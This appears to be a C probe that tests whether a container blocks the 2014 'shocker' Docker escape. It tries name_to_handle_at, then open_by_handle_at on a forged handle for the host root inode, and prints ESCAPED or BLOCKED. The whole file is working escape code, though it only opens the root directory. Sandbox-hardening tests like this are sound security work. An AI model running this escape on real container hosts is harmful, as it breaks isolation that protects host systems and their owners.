/* Attack: "shocker" (2014 Docker escape). open_by_handle_at opens any inode of a filesystem by its handle,
 * bypassing the mount namespace: brute-force the handle of the host filesystem's root (inode 2). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int escaped;

int main(void) {
    struct { unsigned int handle_bytes; int handle_type; unsigned char f_handle[8]; } h;
    int mount_fd = open("/etc/hostname", O_RDONLY);
    int mnt_id;
    h.handle_bytes = 8;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/hostname", &h, &mnt_id, 0) == 0) {
        printf("ESCAPED: name_to_handle_at works\n"); escaped = 1;
    } else printf("BLOCKED: name_to_handle_at: %s\n", strerror(errno));
    /* ext4 handle of the root directory: inode 2, generation 0 */
    h.handle_bytes = 8; h.handle_type = 1;
    memset(h.f_handle, 0, 8); h.f_handle[0] = 2;
    int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &h, O_RDONLY | O_DIRECTORY);
    if (fd >= 0) { printf("ESCAPED: open_by_handle_at opened inode 2\n"); escaped = 1; }
    else printf("BLOCKED: open_by_handle_at(inode 2): %s\n", strerror(errno));
    printf("VERDICT: %s\n", escaped ? "ESCAPED" : "BLOCKED");
    return escaped;
}
